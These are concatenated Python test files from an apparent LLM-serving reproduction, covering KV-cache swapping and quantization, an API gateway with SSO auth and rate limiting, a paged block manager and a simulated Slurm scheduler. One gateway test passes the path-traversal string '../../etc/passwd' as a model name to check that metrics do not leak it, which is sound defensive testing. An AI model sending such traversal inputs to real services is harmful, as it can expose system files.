    outs_rc, _ = drive_pressure(llama, kv_dtype=kv_dtype)
    outs_un, _ = drive_pressure(llama, num_blocks=64, kv_dtype=kv_dtype)
    assert e_sw.bm.swap_stats.swap_out_seqs >= 1
    assert outs_sw == outs_un == outs_rc


def test_quantized_offload_keeps_exact_quantized_bits(llama):
    """Direct bit check on the offload half: the host rows a forced
    preemption writes are byte-for-byte the pool rows the victim held —
    int8 payload and f32 scales alike — with no requantization."""
    import jax.numpy as jnp

    e = mk_engine(llama, num_blocks=64, swap_blocks=32, kv_dtype="int8",
                  enable_prefix_caching=False)
    rid = e.submit(np.arange(1, 20), SamplingParams(max_new_tokens=8))
    for _ in range(3):
        e.step()
    calls = []
    orig = e._swap_offload

    def spy(dev_blocks, host_slots):
        calls.append((list(dev_blocks), list(host_slots)))
        orig(dev_blocks, host_slots)
    e._swap_offload = spy
    r = e.requests[rid]
    rows = [int(b) for b in e._tables[r.slot] if b != e.bm.num_blocks]
    before = jax.tree.map(np.asarray,
                          e._swap_gather_fn(e.cache, jnp.asarray(rows)))
    e._preempt(rid)
    assert r.state == ReqState.SWAPPED
    (db, hs), = calls
    pos = [rows.index(b) for b in db]
    payload_dtypes = set()

    def cmp(bt, ht, stacked):
        for k, v in bt.items():
            if isinstance(v, dict):
                cmp(v, ht[k], stacked or k == "blocks")
            else:
                payload_dtypes.add(ht[k].dtype)
                got = ht[k][:, hs] if stacked else ht[k][hs]
                want = v[:, pos] if stacked else v[pos]
                np.testing.assert_array_equal(got, want, err_msg=str(k))
    cmp(before, e._host_pool, False)
    assert np.dtype(np.int8) in payload_dtypes, \
        "comparison must have covered the quantized payload itself"
    while e.has_work():
        e.step()
        e.bm.check_invariants()
    e2 = mk_engine(llama, num_blocks=64, kv_dtype="int8",
                   enable_prefix_caching=False)
    assert e.requests[rid].output == e2.generate(np.arange(1, 20), 8)
