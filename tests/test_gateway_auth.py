"""Kong-shaped API gateway (paper §5.2) + SSO auth layer (§5.1)."""
import pytest

from repro.core.auth import AuthReverseProxy, SSOProvider, User
from repro.core.deferred import Deferred
from repro.core.gateway import APIGateway, RateLimiter, Route
from repro.slurmlite.clock import SimClock


def mk_gateway(**route_kw):
    clock = SimClock()
    gw = APIGateway(clock)
    seen = []

    def upstream(method, path, model, body, user, stream):
        seen.append((method, path, model, user))
        d = Deferred()
        d.resolve("ok")
        return d

    gw.add_route(Route(name="chat", path_prefix="/v1/", upstream=upstream,
                       **route_kw))
    return clock, gw, seen


def test_requires_credentials():
    _, gw, seen = mk_gateway()
    r = gw.handle(method="POST", path="/v1/chat/completions", model="m")
    assert r.status == 401 and not seen


def test_api_key_flow():
    _, gw, seen = mk_gateway()
    key = gw.keys.issue("carol@mpg.de")
    r = gw.handle(method="POST", path="/v1/chat/completions", model="m",
                  api_key=key)
    assert r.status == 200 and seen[-1][3] == "carol@mpg.de"
    assert gw.handle(method="POST", path="/v1/chat/completions", model="m",
                     api_key="sk-forged").status == 401
    gw.keys.revoke(key)
    assert gw.handle(method="POST", path="/v1/chat/completions", model="m",
                     api_key=key).status == 401


def test_keys_stored_hashed():
    _, gw, _ = mk_gateway()
    key = gw.keys.issue("u")
    assert key not in repr(gw.keys.__dict__)    # only sha256 digests stored


def test_no_route_404():
    _, gw, _ = mk_gateway()
    r = gw.handle(method="GET", path="/admin", user_id="u")
    assert r.status == 404


def test_group_restricted_route():
    """The external GPT-4 route is restricted to user groups (paper §5.8)."""
    _, gw, seen = mk_gateway(allowed_groups={"gpt4-pilot"})
    assert gw.handle(method="POST", path="/v1/chat/completions", model="m",
                     user_id="u").status == 403
    gw.user_groups["u"] = {"gpt4-pilot"}
    assert gw.handle(method="POST", path="/v1/chat/completions", model="m",
                     user_id="u").status == 200


def test_rate_limiting_sliding_window():
    clock = SimClock()
    gw = APIGateway(clock)

    def upstream(*a):
        d = Deferred()
        d.resolve("ok")
        return d

    gw.add_route(Route(name="chat", path_prefix="/v1/", upstream=upstream,
                       rate_limit=RateLimiter(clock, limit=3, window_s=60)))
    req = dict(method="POST", path="/v1/chat/completions", model="m",
               user_id="u")
    assert [gw.handle(**req).status for _ in range(4)] == [200] * 3 + [429]
    # another user has their own window
    assert gw.handle(method="POST", path="/v1/chat/completions", model="m",
                     user_id="v").status == 200
    clock.run_for(61)
    assert gw.handle(**req).status == 200


def test_accounting_is_content_free():
    """GDPR minimization: counters carry model/user metadata, no content."""
    _, gw, _ = mk_gateway()
    gw.register_model("llama")
    gw.handle(method="POST", path="/v1/chat/completions", model="llama",
              user_id="u", body=b"SECRET-PROMPT")
    rendered = gw.metrics.render_prometheus()
    assert "SECRET-PROMPT" not in rendered
    assert "gw_requests_model_llama" in rendered


def test_model_metric_cardinality_is_bounded():
    """Per-model counters exist only for registered models; arbitrary
    request strings all land in the "other" bucket — otherwise any caller
    could mint unbounded metric names."""
    _, gw, _ = mk_gateway()
    gw.register_model("llama")
    for model in ("llama", "x" * 200, "../../etc/passwd", "m2", "m3"):
        gw.handle(method="POST", path="/v1/chat/completions", model=model,
                  user_id="u")
    rendered = gw.metrics.render_prometheus()
    names = [ln.split()[0] for ln in rendered.splitlines()
             if ln.startswith("gw_requests_model_")]
    assert sorted(set(names)) == ["gw_requests_model_llama",
                                  "gw_requests_model_other"]
    assert "passwd" not in rendered and "x" * 200 not in rendered


def test_rate_limiter_prunes_idle_users():
    """The hit map tracks active users, not everyone ever seen."""
    clock = SimClock()
    rl = RateLimiter(clock, limit=10, window_s=60)
    for i in range(500):
        assert rl.allow(f"user-{i}")
        clock.run_for(1.0)
    # 500 s elapsed: sweeps keep the map at O(window) active users, never
    # the 500 distinct users seen (idle entries linger one window at most)
    rl.allow("fresh")
    assert rl.tracked_users() <= 125
    clock.run_for(120.0)
    rl.allow("later")
    assert rl.tracked_users() <= 2    # only the most recent survivors


def test_longest_prefix_route_wins():
    clock = SimClock()
    gw = APIGateway(clock)
    hits = []

    def up(tag):
        def fn(*a):
            hits.append(tag)
            d = Deferred()
            d.resolve("ok")
            return d
        return fn

    gw.add_route(Route(name="a", path_prefix="/v1/", upstream=up("v1")))
    gw.add_route(Route(name="b", path_prefix="/v1/chat/",
                       upstream=up("chat")))
    gw.handle(method="POST", path="/v1/chat/completions", user_id="u")
    assert hits == ["chat"]


# ---------------------------------------------------------------------------
# auth
# ---------------------------------------------------------------------------

def test_sso_login_and_session_resolution():
    sso = SSOProvider()
    sso.register(User("alice@uni.de"))
    auth = AuthReverseProxy(sso)
    assert auth.login("mallory@evil.com") is None
    tok = auth.login("alice@uni.de")
    assert auth.resolve_session(tok) == "alice@uni.de"
    auth.logout(tok)
    assert auth.resolve_session(tok) is None


def test_sessions_are_unguessable_and_distinct():
    sso = SSOProvider()
    sso.register(User("a@x"))
    auth = AuthReverseProxy(sso)
    toks = {auth.login("a@x") for _ in range(32)}
    assert len(toks) == 32
    assert all(len(t) >= 24 for t in toks)
