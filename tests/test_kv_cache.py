"""Paged KV block manager — unit + stateful property tests of the
near-zero-waste invariants (vLLM mechanism, paper §2/§5.7)."""
import pytest

from _hypothesis_compat import (
    RuleBasedStateMachine, invariant, precondition, rule, settings, st)

from repro.serving.kv_cache import BlockManager, OutOfBlocks


def test_allocate_exact_blocks():
    bm = BlockManager(num_blocks=10, block_size=16)
    blocks = bm.allocate(1, 33)         # 33 tokens -> 3 blocks
    assert len(blocks) == 3
    assert bm.free_blocks == 7
    bm.check_invariants()


def test_append_token_crosses_boundary():
    bm = BlockManager(num_blocks=4, block_size=4)
    bm.allocate(1, 4)
    assert bm.append_token(1) is not None    # 5th token -> new block
    assert bm.append_token(1) is None        # 6th fits
    assert bm.num_tokens(1) == 6
    bm.check_invariants()


def test_out_of_blocks_on_allocate_and_append():
    bm = BlockManager(num_blocks=2, block_size=4)
    bm.allocate(1, 8)
    with pytest.raises(OutOfBlocks):
        bm.allocate(2, 1)
    with pytest.raises(OutOfBlocks):
        bm.append_token(1)
    # failed append must not corrupt accounting
    assert bm.num_tokens(1) == 8
    bm.check_invariants()


def test_free_returns_blocks():
    bm = BlockManager(num_blocks=4, block_size=4)
    bm.allocate(1, 8)
    bm.allocate(2, 8)
    bm.free(1)
    assert bm.free_blocks == 2
    bm.allocate(3, 8)
    bm.check_invariants()


def test_utilization_near_one_when_full_blocks():
    bm = BlockManager(num_blocks=8, block_size=16)
    bm.allocate(1, 16 * 3)
    assert bm.utilization() == 1.0
    bm.allocate(2, 1)                    # one nearly-empty block
    assert bm.utilization() == pytest.approx((48 + 1) / 64)


def test_waste_bounded_by_one_block_per_seq():
    """The PagedAttention guarantee: internal fragmentation < 1 block/seq."""
    bm = BlockManager(num_blocks=64, block_size=16)
    for s, n in enumerate([1, 17, 31, 48, 100]):
        bm.allocate(s, n)
        waste = len(bm.table(s)) * 16 - n
        assert 0 <= waste < 16


class BlockManagerMachine(RuleBasedStateMachine):
    """Drives random allocate/append/free traffic; the manager's own
    ``check_invariants`` (no double alloc, no leak, table sizes exact) must
    hold after every step."""

    def __init__(self):
        super().__init__()
        self.bm = BlockManager(num_blocks=12, block_size=4)
        self.live = set()
        self.next_id = 0

    @rule(n=st.integers(1, 24))
    def allocate(self, n):
        sid = self.next_id
        self.next_id += 1
        try:
            self.bm.allocate(sid, n)
            self.live.add(sid)
        except OutOfBlocks:
            pass

    @precondition(lambda self: self.live)
    @rule(data=st.data())
    def append(self, data):
        sid = data.draw(st.sampled_from(sorted(self.live)))
        before = self.bm.num_tokens(sid)
        try:
            self.bm.append_token(sid)
            assert self.bm.num_tokens(sid) == before + 1
        except OutOfBlocks:
            assert self.bm.num_tokens(sid) == before

    @precondition(lambda self: self.live)
    @rule(data=st.data())
    def free(self, data):
        sid = data.draw(st.sampled_from(sorted(self.live)))
        self.bm.free(sid)
        self.live.discard(sid)

    @invariant()
    def invariants_hold(self):
        self.bm.check_invariants()

    @invariant()
    def waste_bound(self):
        for sid in self.live:
            waste = len(self.bm.table(sid)) * 4 - self.bm.num_tokens(sid)
            assert 0 <= waste < 4 or self.bm.num_tokens(sid) == 0


TestBlockManagerStateful = pytest.mark.hypothesis(
    BlockManagerMachine.TestCase)
TestBlockManagerStateful.settings = settings(
    max_examples=60, stateful_step_count=40, deadline=None)
