"""Paged KV block manager — unit + stateful property tests of the
near-zero-waste invariants (vLLM mechanism, paper §2/§5.7)."""
import pytest

from _hypothesis_compat import (
    RuleBasedStateMachine, invariant, precondition, rule, settings, st)

from repro.serving.kv_cache import BlockManager, OutOfBlocks


def test_allocate_exact_blocks():
    bm = BlockManager(num_blocks=10, block_size=16)
    blocks = bm.allocate(1, 33)         # 33 tokens -> 3 blocks
    assert len(blocks) == 3
    assert bm.free_blocks == 7
    bm.check_invariants()


def test_append_token_crosses_boundary():
    bm = BlockManager(num_blocks=4, block_size=4)
    bm.allocate(1, 4)
    assert bm.append_token(1) is not None    # 5th token -> new block
    assert bm.append_token(1) is None        # 6th fits
    assert bm.num_tokens(1) == 6
    bm.check_invariants()


def test_out_of_blocks_on_allocate_and_append():
    bm = BlockManager(num_blocks=2, block_size=4)
    bm.allocate(1, 8)
    with pytest.raises(OutOfBlocks):
        bm.allocate(2, 1)
    with pytest.raises(OutOfBlocks):
        bm.append_token(1)
    # failed append must not corrupt accounting
    assert bm.num_tokens(1) == 8
    bm.check_invariants()


def test_free_returns_blocks():
    bm = BlockManager(num_blocks=4, block_size=4)
    bm.allocate(1, 8)
    bm.allocate(2, 8)
    bm.free(1)
    assert bm.free_blocks == 2
    bm.allocate(3, 8)
    bm.check_invariants()


def test_utilization_near_one_when_full_blocks():
    bm = BlockManager(num_blocks=8, block_size=16)
    bm.allocate(1, 16 * 3)
    assert bm.utilization() == 1.0
    bm.allocate(2, 1)                    # one nearly-empty block
    assert bm.utilization() == pytest.approx((48 + 1) / 64)


def test_waste_bounded_by_one_block_per_seq():
    """The PagedAttention guarantee: internal fragmentation < 1 block/seq."""
    bm = BlockManager(num_blocks=64, block_size=16)
    for s, n in enumerate([1, 17, 31, 48, 100]):
        bm.allocate(s, n)
        waste = len(bm.table(s)) * 16 - n
        assert 0 <= waste < 16


# ----- swap-based preemption bookkeeping (CPU offload) -----------------

def _seq_tokens(base, n):
    return [base + i for i in range(n)]


def test_swap_out_offloads_and_frees():
    bm = BlockManager(num_blocks=8, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=_seq_tokens(100, 10))
    bm.mark_filled(1, 10)
    held = bm.free_blocks
    dev, host = bm.swap_out(1)
    # nothing shares this seq's content: all 3 filled blocks offload
    assert len(dev) == len(host) == 3
    assert bm.free_blocks == held + 3
    assert bm.host_blocks_used == 3
    assert 1 not in bm.active_seqs()
    bm.check_invariants()


def test_swap_roundtrip_restores_layout():
    bm = BlockManager(num_blocks=8, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=_seq_tokens(100, 10))
    bm.mark_filled(1, 10)
    dev, host = bm.swap_out(1)
    assert bm.can_swap_in(1, 11)
    blocks, restores, filled, cached = bm.swap_in(
        1, 11, token_ids=_seq_tokens(100, 10))
    assert len(blocks) == 3                       # 11 tokens -> 3 blocks
    # the two full registered blocks survived LRU-parked and are
    # re-referenced in place; only the partial tail pays a copy back
    assert blocks[:2] == dev[:2]
    assert [s for s, _ in restores] == [host[2]]
    assert filled == 10 and cached == 8
    assert bm.host_blocks_used == 0               # slots released
    assert bm.num_tokens(1) == 11
    bm.check_invariants()


def test_swap_in_restores_when_parked_copy_scavenged():
    """Same roundtrip, but the offloaded blocks' parked device copies are
    scavenged while the sequence is out: every block must come back from
    the host pool instead."""
    bm = BlockManager(num_blocks=5, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=_seq_tokens(100, 10))
    bm.mark_filled(1, 10)
    dev, host = bm.swap_out(1)
    bm.allocate(2, 20)                            # churns every free block
    bm.free(2)
    assert bm.cached_blocks == 0
    blocks, restores, filled, cached = bm.swap_in(
        1, 11, token_ids=_seq_tokens(100, 10))
    assert [s for s, _ in restores] == host       # full restore
    assert filled == 10 and cached == 0
    assert bm.host_blocks_used == 0
    bm.check_invariants()


def test_swap_out_keeps_shared_blocks_resident():
    """Blocks another live sequence still references (the shared prefix)
    are re-looked-up at swap-in, not copied to the host."""
    shared = _seq_tokens(0, 8)                    # 2 full blocks
    bm = BlockManager(num_blocks=8, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=shared + [50, 51])
    bm.mark_filled(1, 10)
    bm.allocate(2, 10, token_ids=shared + [60, 61])
    bm.mark_filled(2, 10)
    assert bm.cached_tokens(2) == 8               # seq 2 shares the prefix
    dev, host = bm.swap_out(2)
    assert len(dev) == 1, "only the private tail block offloads"
    blocks, restores, filled, cached = bm.swap_in(
        2, 10, token_ids=shared + [60, 61])
    assert filled == 10 and cached == 8
    assert len(restores) == 1
    assert blocks[:2] == bm.table(1)[:2], "shared blocks re-referenced"
    assert bm.swap_stats.lookup_blocks == 2
    bm.check_invariants()


def test_swap_in_degrades_to_recompute_when_chain_evicted():
    """A cached entry whose block was scavenged while the victim was out
    cuts the restore horizon — resume falls back to recompute from the
    gap, and host slots beyond it are discarded, never restored."""
    shared = _seq_tokens(0, 8)
    bm = BlockManager(num_blocks=6, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=shared + [50, 51])
    bm.mark_filled(1, 10)
    bm.allocate(2, 10, token_ids=shared + [60, 61])
    bm.mark_filled(2, 10)
    dev, host = bm.swap_out(2)                    # layout: cached,cached,host
    assert len(host) == 1
    bm.free(1)                                    # prefix now only LRU-parked
    # churn until the registered prefix blocks are scavenged
    bm.allocate(3, 24, token_ids=_seq_tokens(900, 24))
    assert bm.cached_blocks == 0
    bm.free(3)
    blocks, restores, filled, cached = bm.swap_in(
        2, 10, token_ids=shared + [60, 61])
    assert filled == 0 and cached == 0 and restores == []
    assert bm.swap_stats.dropped_blocks == 1
    assert bm.host_blocks_used == 0
    bm.check_invariants()


def test_swap_out_refused_when_host_pool_full():
    bm = BlockManager(num_blocks=8, block_size=4, num_host_blocks=2)
    bm.allocate(1, 10, token_ids=_seq_tokens(100, 10))
    bm.mark_filled(1, 10)
    assert bm.swap_out(1) is None                 # needs 3 slots, has 2
    assert bm.swap_stats.fallbacks == 1
    assert 1 in bm.active_seqs(), "refused swap must not mutate"
    assert bm.host_blocks_used == 0
    bm.check_invariants()


def test_can_swap_in_honest_about_device_pressure():
    bm = BlockManager(num_blocks=4, block_size=4, num_host_blocks=8)
    bm.allocate(1, 8, token_ids=_seq_tokens(100, 8))
    bm.mark_filled(1, 8)
    bm.swap_out(1)
    bm.allocate(2, 16)                            # device now full
    assert not bm.can_swap_in(1, 8)
    with pytest.raises(OutOfBlocks):
        bm.swap_in(1, 8)
    assert bm.host_blocks_used == 2, "failed swap-in must not free slots"
    bm.free(2)
    assert bm.can_swap_in(1, 8)
    bm.swap_in(1, 8, token_ids=_seq_tokens(100, 8))
    bm.check_invariants()


def test_drop_swap_releases_host_slots():
    bm = BlockManager(num_blocks=8, block_size=4, num_host_blocks=8)
    bm.allocate(1, 10, token_ids=_seq_tokens(100, 10))
    bm.mark_filled(1, 10)
    bm.swap_out(1)
    assert bm.drop_swap(1) == 3
    assert bm.host_blocks_used == 0
    assert not bm.can_swap_in(1, 10)              # record gone
    assert bm.drop_swap(1) == 0                   # idempotent
    bm.check_invariants()


def test_host_pool_accounting_random_walk():
    """Seeded mixed traffic over a tight device pool and a tight host
    pool: allocate / append / mark_filled / free / swap_out / swap_in /
    drop_swap in random order — the manager's device *and* host
    invariants must hold after every operation."""
    import random
    rng = random.Random(7)
    bm = BlockManager(num_blocks=12, block_size=4, num_host_blocks=6)
    live, swapped, next_id = {}, set(), 0   # live: seq -> token list
    for _ in range(600):
        op = rng.random()
        if op < 0.3:
            toks = [rng.randrange(100) for _ in range(rng.randrange(1, 20))]
            try:
                bm.allocate(next_id, len(toks), token_ids=toks)
                bm.mark_filled(next_id, rng.randrange(len(toks) + 1))
                live[next_id] = toks
                next_id += 1
            except OutOfBlocks:
                pass
        elif op < 0.5 and live:
            sid = rng.choice(sorted(live))
            t = rng.randrange(100)
            try:
                bm.append_token(sid, token_id=t)
                live[sid].append(t)
                bm.mark_filled(sid, rng.randrange(len(live[sid]) + 1))
            except OutOfBlocks:
                pass
        elif op < 0.65 and live:
            sid = rng.choice(sorted(live))
            bm.free(sid)
            del live[sid]
        elif op < 0.85 and live:
            sid = rng.choice(sorted(live))
            if bm.swap_out(sid) is not None:
                swapped.add(sid)
                del live[sid]
        elif swapped:
            sid = rng.choice(sorted(swapped))
            if rng.random() < 0.25:
                bm.drop_swap(sid)
                swapped.discard(sid)
            else:
                try:
                    toks = None  # record snapshot is authoritative here
                    blocks, _, filled, _ = bm.swap_in(
                        sid, bm._swap_records[sid].num_tokens,
                        token_ids=toks)
                    assert filled <= bm.num_tokens(sid)
                    live[sid] = list(bm._seqs[sid].token_ids)
                    swapped.discard(sid)
                except OutOfBlocks:
                    pass
        bm.check_invariants()
    # drain: everything must come home
    for sid in sorted(swapped):
        bm.drop_swap(sid)
    for sid in sorted(live):
        bm.free(sid)
    bm.check_invariants()
    assert bm.host_blocks_used == 0
    assert bm.free_blocks == bm.num_blocks


class BlockManagerMachine(RuleBasedStateMachine):
    """Drives random allocate/append/free traffic; the manager's own
    ``check_invariants`` (no double alloc, no leak, table sizes exact) must
    hold after every step."""

    def __init__(self):
        super().__init__()
        self.bm = BlockManager(num_blocks=12, block_size=4)
        self.live = set()
        self.next_id = 0

    @rule(n=st.integers(1, 24))
    def allocate(self, n):
        sid = self.next_id
        self.next_id += 1
        try:
            self.bm.allocate(sid, n)
            self.live.add(sid)
        except OutOfBlocks:
            pass

    @precondition(lambda self: self.live)
    @rule(data=st.data())
    def append(self, data):
        sid = data.draw(st.sampled_from(sorted(self.live)))
        before = self.bm.num_tokens(sid)
        try:
            self.bm.append_token(sid)
            assert self.bm.num_tokens(sid) == before + 1
        except OutOfBlocks:
            assert self.bm.num_tokens(sid) == before

    @precondition(lambda self: self.live)
    @rule(data=st.data())
    def free(self, data):
        sid = data.draw(st.sampled_from(sorted(self.live)))
        self.bm.free(sid)
        self.live.discard(sid)

    @invariant()
    def invariants_hold(self):
        self.bm.check_invariants()

    @invariant()
    def waste_bound(self):
        for sid in self.live:
            waste = len(self.bm.table(sid)) * 4 - self.bm.num_tokens(sid)
            assert 0 <= waste < 4 or self.bm.num_tokens(sid) == 0


TestBlockManagerStateful = pytest.mark.hypothesis(
    BlockManagerMachine.TestCase)
TestBlockManagerStateful.settings = settings(
    max_examples=60, stateful_step_count=40, deadline=None)


# ----- fork / COW / free refcount accounting (sequence groups) ---------

def test_fork_shares_all_blocks_and_cow_diverges():
    bm = BlockManager(num_blocks=10, block_size=4)
    toks = _seq_tokens(0, 10)
    blocks = bm.allocate(1, 10, token_ids=toks)       # 3 blocks, tail partial
    bm.mark_filled(1, 10)
    child = bm.fork(1, 2)
    assert child == blocks                            # full alias, no pops
    assert bm.stats.forks == 1
    assert all(bm._ref[b] == 2 for b in blocks)
    popped = bm.popped_blocks
    # the child's first divergent write into the shared tail copies it
    cow = bm.cow_if_shared(2, 9)
    assert cow is not None
    src, dst = cow
    assert src == blocks[-1] and dst not in blocks
    assert bm.popped_blocks == popped + 1
    assert bm._ref[src] == 1 and bm._ref[dst] == 1
    # the parent's tail is now exclusively held: no second copy
    assert bm.cow_if_shared(1, 9) is None
    bm.check_invariants()
    # frees return everything; the registered full prompt blocks park in
    # the LRU prefix cache rather than being scrubbed
    bm.free(1)
    bm.check_invariants()
    assert bm.num_tokens(2) == 10                     # child unaffected
    bm.free(2)
    bm.check_invariants()
    assert bm.free_blocks == bm.num_blocks
    assert bm.cached_blocks >= 2                      # full blocks stay keyed


def test_fork_chain_registration_flows_to_child():
    """A child's decode-filled blocks register under the child's own
    token chain (fork copies the parent's chain prefix)."""
    bm = BlockManager(num_blocks=12, block_size=4)
    toks = _seq_tokens(0, 8)
    bm.allocate(1, 8, token_ids=toks)                 # 2 full blocks
    bm.mark_filled(1, 8)
    bm.fork(1, 2)
    before = bm.stats.registered_blocks
    for t in (50, 51, 52, 53):                        # child fills a block
        bm.append_token(2, token_id=t)
    bm.mark_filled(2, 12)
    assert bm.stats.registered_blocks == before + 1
    # an identical third sequence now matches prompt + the child's block
    bm.free(1)
    bm.free(2)
    blocks = bm.allocate(3, 13, token_ids=list(toks) + [50, 51, 52, 53, 60])
    assert bm.cached_tokens(3) == 12
    assert len(blocks) == 4
    bm.free(3)
    bm.check_invariants()


def test_fork_random_walk_invariants():
    """Seeded mixed traffic *including forks*: allocate / fork / COW /
    append / free / swap in random order over a tight pool — refcounts,
    LRU, hash table and host accounting must hold after every op."""
    import random
    rng = random.Random(13)
    bm = BlockManager(num_blocks=16, block_size=4, num_host_blocks=8)
    live, swapped, next_id = {}, set(), 0   # live: seq -> token list
    forks = 0
    for _ in range(800):
        op = rng.random()
        if op < 0.22:
            toks = [rng.randrange(100) for _ in range(rng.randrange(1, 16))]
            try:
                bm.allocate(next_id, len(toks), token_ids=toks)
                bm.mark_filled(next_id, rng.randrange(len(toks) + 1))
                live[next_id] = toks
                next_id += 1
            except OutOfBlocks:
                pass
        elif op < 0.38 and live:
            # fork a live sequence: pure aliasing, never raises
            sid = rng.choice(sorted(live))
            bm.fork(sid, next_id)
            live[next_id] = list(bm._seqs[next_id].token_ids)
            next_id += 1
            forks += 1
        elif op < 0.5 and live:
            # a divergent write: COW the tail if shared
            sid = rng.choice(sorted(live))
            pos = bm.num_tokens(sid) - 1
            if pos >= 0:
                try:
                    bm.cow_if_shared(sid, pos)
                except OutOfBlocks:
                    pass
        elif op < 0.65 and live:
            sid = rng.choice(sorted(live))
            t = rng.randrange(100)
            try:
                bm.append_token(sid, token_id=t)
                live[sid].append(t)
                bm.mark_filled(sid, rng.randrange(len(live[sid]) + 1))
            except OutOfBlocks:
                pass
        elif op < 0.78 and live:
            sid = rng.choice(sorted(live))
            bm.free(sid)
            del live[sid]
        elif op < 0.92 and live:
            sid = rng.choice(sorted(live))
            if bm.swap_out(sid) is not None:
                swapped.add(sid)
                del live[sid]
        elif swapped:
            sid = rng.choice(sorted(swapped))
            try:
                bm.swap_in(sid, bm._swap_records[sid].num_tokens)
                live[sid] = list(bm._seqs[sid].token_ids)
                swapped.discard(sid)
            except OutOfBlocks:
                pass
        bm.check_invariants()
    assert forks >= 20, "the walk should actually exercise fork"
    for sid in sorted(swapped):
        bm.drop_swap(sid)
    for sid in sorted(live):
        bm.free(sid)
    bm.check_invariants()
    assert bm.free_blocks == bm.num_blocks
