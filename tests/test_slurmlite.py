"""slurmlite — the deterministic Slurm substrate (sbatch/squeue/scancel,
GRES, FIFO+backfill, priorities, failures, timeouts)."""
import pytest
from _hypothesis_compat import given, settings, st

from repro.slurmlite import JobSpec, JobState, Node, SlurmCluster
from repro.slurmlite.clock import SimClock


def mk(n_nodes=2, gpus=4):
    clock = SimClock()
    return clock, SlurmCluster(clock, [
        Node(f"n{i}", gpus) for i in range(n_nodes)])


def test_submit_runs_and_completes():
    clock, sl = mk()
    started, ended = [], []
    jid = sl.sbatch(JobSpec("j", gres_gpus=2, time_limit=10.0,
                            on_start=lambda j: started.append(j.job_id),
                            on_end=lambda j: ended.append(j.job_id)))
    clock.run_for(0.1)
    job = sl.jobs[jid]
    assert job.state == JobState.RUNNING and job.node is not None
    assert started == [jid]
    clock.run_for(20.0)
    assert job.state == JobState.TIMEOUT and ended == [jid]
    assert sl.gpu_totals()[0] == 0


def test_squeue_filters_by_prefix_and_state():
    clock, sl = mk()
    a = sl.sbatch(JobSpec("chatai_llama"))
    sl.sbatch(JobSpec("user_job"))
    clock.run_for(0.1)
    names = [j.name for j in sl.squeue("chatai")]
    assert names == ["chatai_llama"]
    sl.scancel(a)
    assert sl.squeue("chatai") == []


def test_gres_accounting_queues_when_full():
    clock, sl = mk(n_nodes=1, gpus=4)
    j1 = sl.sbatch(JobSpec("a", gres_gpus=3, time_limit=10.0))
    j2 = sl.sbatch(JobSpec("b", gres_gpus=3, time_limit=10.0))
    clock.run_for(0.1)
    assert sl.jobs[j1].state == JobState.RUNNING
    assert sl.jobs[j2].state == JobState.PENDING
    clock.run_for(10.5)   # j1 times out, j2 starts
    assert sl.jobs[j2].state == JobState.RUNNING


def test_backfill_small_jobs_jump_but_not_bigger():
    clock, sl = mk(n_nodes=1, gpus=4)
    sl.sbatch(JobSpec("big0", gres_gpus=4, time_limit=100.0))
    clock.run_for(0.1)
    blocked = sl.sbatch(JobSpec("big1", gres_gpus=4))   # head-of-queue blocks
    tiny = sl.sbatch(JobSpec("tiny", gres_gpus=0))      # smaller: may backfill
    same = sl.sbatch(JobSpec("same", gres_gpus=4))      # same size: must wait
    clock.run_for(0.1)
    assert sl.jobs[blocked].state == JobState.PENDING
    assert sl.jobs[tiny].state == JobState.RUNNING
    assert sl.jobs[same].state == JobState.PENDING


def test_priority_order():
    clock, sl = mk(n_nodes=1, gpus=4)
    blocker = sl.sbatch(JobSpec("hold", gres_gpus=4, time_limit=5.0))
    clock.run_for(0.1)
    lo = sl.sbatch(JobSpec("lo", gres_gpus=4, priority=0))
    hi = sl.sbatch(JobSpec("hi", gres_gpus=4, priority=10))
    clock.run_for(6.0)
    assert sl.jobs[hi].state == JobState.RUNNING
    assert sl.jobs[lo].state == JobState.PENDING
    assert sl.jobs[blocker].state == JobState.TIMEOUT


def test_node_failure_kills_jobs_and_reschedules_elsewhere():
    clock, sl = mk(n_nodes=2, gpus=4)
    j = sl.sbatch(JobSpec("svc", gres_gpus=4, time_limit=100.0))
    clock.run_for(0.1)
    node = sl.jobs[j].node
    sl.fail_node(node)
    assert sl.jobs[j].state == JobState.FAILED
    j2 = sl.sbatch(JobSpec("svc", gres_gpus=4, time_limit=100.0))
    clock.run_for(0.1)
    assert sl.jobs[j2].state == JobState.RUNNING
    assert sl.jobs[j2].node != node


def test_drain_prevents_new_placement():
    clock, sl = mk(n_nodes=1, gpus=4)
    sl.drain_node("n0")
    j = sl.sbatch(JobSpec("x"))
    clock.run_for(0.1)
    assert sl.jobs[j].state == JobState.PENDING
    sl.drain_node("n0", drain=False)
    clock.run_for(0.1)
    assert sl.jobs[j].state == JobState.RUNNING


def test_best_fit_packing():
    clock, sl = mk(n_nodes=2, gpus=4)
    a = sl.sbatch(JobSpec("a", gres_gpus=3, time_limit=100.0))
    clock.run_for(0.1)
    b = sl.sbatch(JobSpec("b", gres_gpus=1, time_limit=100.0))
    clock.run_for(0.1)
    # best-fit: the 1-GPU job lands in the 1-GPU hole, not the empty node
    assert sl.jobs[b].node == sl.jobs[a].node


def test_complete_frees_resources():
    clock, sl = mk(n_nodes=1, gpus=4)
    j = sl.sbatch(JobSpec("a", gres_gpus=4, time_limit=100.0))
    clock.run_for(0.1)
    sl.complete(j, ok=False)
    assert sl.jobs[j].state == JobState.FAILED
    assert sl.gpu_totals() == (0, 4)


# ---------------------------------------------------------------------------
# property: GPU accounting never goes negative or over capacity
# ---------------------------------------------------------------------------

@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 3),      # op
                          st.integers(1, 5),      # gpus
                          st.floats(0.5, 30.0)),  # time limit / dt
                min_size=1, max_size=40))
def test_gpu_accounting_invariant(ops):
    clock, sl = mk(n_nodes=3, gpus=4)
    ids = []
    for op, gpus, dt in ops:
        if op == 0:
            ids.append(sl.sbatch(JobSpec("j", gres_gpus=gpus, time_limit=dt)))
        elif op == 1 and ids:
            sl.scancel(ids[len(ids) // 2])
        elif op == 2:
            clock.run_for(dt)
        elif op == 3 and ids:
            sl.complete(ids[-1])
        used, total = sl.gpu_totals()
        assert 0 <= used <= total
        for n in sl.nodes.values():
            assert 0 <= n.gpus_used <= n.gpus
